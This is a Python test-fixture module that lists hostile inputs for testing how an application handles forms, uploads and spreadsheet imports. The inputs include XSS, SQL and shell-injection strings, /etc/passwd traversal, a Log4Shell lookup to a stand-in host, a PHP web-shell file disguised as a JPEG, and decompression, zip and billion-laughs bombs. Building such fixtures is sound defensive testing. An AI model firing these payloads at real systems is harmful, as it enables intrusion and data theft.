"""What people, scanners and attackers type and send: 71 strings, 24 files and 6 workbooks."""

import io
import zipfile
from functools import cache

from core import sheets
from tests import factories_files as build

MARKUP = [
    "<script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</select><script>xss()</script>",
    "<img src=x onerror=xss()>",
    '"><img src=x onerror=xss()>',
    "'><svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "' onmouseover='xss()",
    '" onfocus="xss()" autofocus="',
    "` onclick=`xss()",
    " onpointerenter=xss() ",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<script>xss()</script>'>",
    "<object data=data:text/html,xss>",
    "<embed src=//x.example>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x>",
    "<link rel=stylesheet href=//x.example>",
    "<style>*{display:none}</style>",
    "<form action=//x.example><input name=a>",
    "<a href=javascript:xss()>维修</a>",
    "[维修](javascript:xss())",
    "javascript:xss()//",
    "data:text/html,<script>xss()</script>",
    "<div hx-get=/logout/ hx-trigger=load>",
    "<b style=position:fixed>漏水",
    "<!--><script>xss()</script>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "<ScRiPt\t>xss()</sCrIpT >",
    "＜script＞xss()＜/script＞",
    "<math><mi//xlink:href='javascript:xss()'>",
    "<details open ontoggle=xss()>",
]
CODE = [
    "{{ settings.SECRET_KEY }}",
    "{% csrf_token %}{# 注 #}",
    "{业主} {0} {__class__}",
    "%s %(name)s %d %n",
    "${jndi:ldap://x.example/a}",
    "'; DROP TABLE tickets_ticket; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(9)",
    "%' ESCAPE '!' _ \\%",
    "$$; COPY x TO PROGRAM 'id'; $$",
    "`id` $(id) | cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "漏水\r\nSet-Cookie: a=b",
    "漏水\r\n\r\n<html>",
    "+ADw-script+AD4-",
    "(?:a+)+$",
    "null",
    "[object Object]",
]
FORMULAS = ['=HYPERLINK("http://x","a")', "+1+1", "-2+3|cmd", "@SUM(1)", "＝1+1", "\t=1+1"]
LETTERS = [
    "𠮷野家👨‍👩‍👧🏠",
    "\u202e水漏\u202d\u2066",
    "漏\u200b水\ufeff\u2028\u2029",
    "漏" + "\u0301" * 20,
    "漏\x07水\x1b[31m",
    # Decoded to a sign that says so, and kept.
    "漏\ud83d水",
]
SHORT = [*MARKUP, *CODE, *FORMULAS, *LETTERS]
# Each of these is a value of its own: together with others they would only prove the first refusal.
ALONE = ["漏\x00水", "   \u3000 ", "漏" * 10_000]
# For what refuses anyway: all at once; the longest text; a number beyond every column.
EVERYTHING, LONGEST, NUMBER = " ".join([*SHORT, "漏\x00水"]), "漏" * 10_000 + "\ud83d", "9" * 400


@cache
def packed(length: int) -> list[str]:
    """All short strings in as few values as fit a field."""
    values: list[str] = []
    for text in SHORT:
        if values and len(values[-1]) + len(text) < length:
            values[-1] += f" {text}"
        else:
            values.append(text)
    return values


SMALL = (64, 48)
PNG, JPG = build.picture("png", size=SMALL, place=True), build.picture(size=SMALL, place=True)
GIF = (
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
)
# Whatever of these is kept must come out again without this.
PAYLOAD = b"<script>xss()</script>"
# A name, and what is in it.
FILES = {
    "program": ("漏水.jpg", build.EXE),
    "drawing": ("漏水.svg", build.SVG),
    "drawing named as picture": ("漏水.png", build.SVG),
    "page": ("漏水.jpg", build.HTML),
    "bomb": ("漏水.png", build.huge_png(9_000, 9_000)),
    "half a picture": ("漏水.jpg", JPG[: len(JPG) // 2]),
    "begun picture": ("漏水.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF"),
    "gif and zip": ("漏水.gif", GIF + build.ZIP),
    "gif and script": ("漏水.jpg", b"GIF89a/*" + PAYLOAD + b"*/=1;"),
    "picture and zip": ("漏水.jpg", JPG + PAYLOAD + build.ZIP),
    "picture and page": ("漏水.png", PNG + PAYLOAD),
    "moving picture": ("漏水.webp", build.moving_picture("webp")),
    "video without its first box": ("漏水.mp4", build.video()[20:]),
    "half a video": ("漏水.mp4", build.video()[:400]),
    "archive": ("漏水.xlsx", build.ZIP),
    "document": ("漏水.pdf", build.PDF.replace(b"1 0 obj", b"1 0 obj" + PAYLOAD)),
    "office macro": ("漏水.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "empty": ("漏水.jpg", b""),
    "one byte": ("漏水.jpg", b"\xff"),
    "text": ("../../漏水.txt", b"hello"),
    "php": ("漏水.php.jpg", b"<?php system($_GET[0]); ?>"),
    "tiff": ("漏水.jpg", b"II*\0\x08\0\0\0" + bytes(60)),
    "fits": ("漏水.jpg", b"SIMPLE  =                    T" + b" " * 2850),
    "name": ('"><img src=x onerror=xss()>\r\n漏水\u202egpj.jpg', JPG),
}
# Kept as pictures by every field; a recording and a document by some.
PICTURES = ("picture and zip", "picture and page", "name")


def _archive(**members: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(f"{name.replace('_', '/')}.xml", content)
    return target.getvalue()


def workbook(*rows: list[str]) -> bytes:
    """A small workbook as Excel writes it."""
    target = io.BytesIO()
    sheets.write_xlsx(target, title="表", header=["甲", "乙"], rows=rows)
    return target.getvalue()


LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>'
)
BOOK = workbook(["漏水", "一"])
BOOKS: dict[str, tuple[str, bytes]] = {
    "half a workbook": ("旧单.xlsx", BOOK[: len(BOOK) // 2]),
    "workbook with a hole": ("旧单.xlsx", BOOK[:200] + bytes(200) + BOOK[400:]),
    "workbook that unpacks to much": ("旧单.xlsx", _archive(xl_workbook=bytes(8_000_000))),
    "entities": ("旧单.xlsx", _archive(xl_sharedStrings=LAUGHS, xl_workbook=b"<workbook/>")),
    "formulas for headings": ("旧单.xlsx", workbook(FORMULAS, MARKUP[:2])),
    "workbook named as picture": ("旧单.jpg", BOOK),
    **{label: FILES[label] for label in ("program", "archive", "office macro", "empty", "one byte", "name")},
}
